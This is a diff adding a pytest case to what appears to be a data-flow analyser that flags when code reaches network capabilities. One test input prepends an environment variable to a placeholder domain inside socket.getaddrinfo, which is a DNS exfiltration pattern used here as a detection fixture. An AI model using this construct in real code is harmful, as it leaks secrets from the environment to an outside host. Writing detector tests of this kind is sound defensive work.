@@ -264,3 +264,16 @@ def test_a_mailbox_with_its_key_is_told(source: str) -> None:
 )
 def test_a_mailbox_whose_key_is_given_from_outside_is_not(source: str) -> None:
     assert [] == [use for use in facts("import requests\n" + source).uses if use.api == "own-mailbox"]
+
+
+@pytest.mark.parametrize(
+    ("told", "name"),
+    [
+        (False, "os.environ['A_HOST']"),
+        (True, "os.environ['A'] + '.sink.far.invalid'"),
+        (False, "'far.invalid', os.environ['A_PORT']"),
+    ],
+)
+def test_a_look_up_tells_what_stands_before_a_domain(told: bool, name: str) -> None:
+    found = flows(f"import os, socket\nsocket.getaddrinfo({name}, 80)")
+    assert told is any(sink is Capability.NETWORK for sink, _, _ in found)
